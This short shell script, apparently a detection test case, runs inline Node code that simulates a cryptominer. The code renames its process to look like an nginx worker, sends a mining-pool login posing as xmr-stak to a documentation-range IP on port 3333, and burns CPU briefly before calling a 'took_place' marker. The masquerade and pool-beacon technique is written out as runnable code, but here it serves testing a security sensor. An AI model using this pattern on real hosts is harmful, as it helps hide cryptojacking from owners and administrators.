#!/bin/sh
. /opt/case/case.sh

node -e '
process.title = "nginx: worker process";
const c = require("net").connect(3333, "203.0.113.10", () => c.write(JSON.stringify({ id: 1, method: "login", params: { login: "48bait", pass: "x", agent: "xmr-stak/2.10" } }) + "\n"));
c.on("data", () => { const h = require("crypto"), e = Date.now() + 3000; while (Date.now() < e) h.createHash("sha256").update("x".repeat(4096)).digest(); process.exit(0) });'
took_place
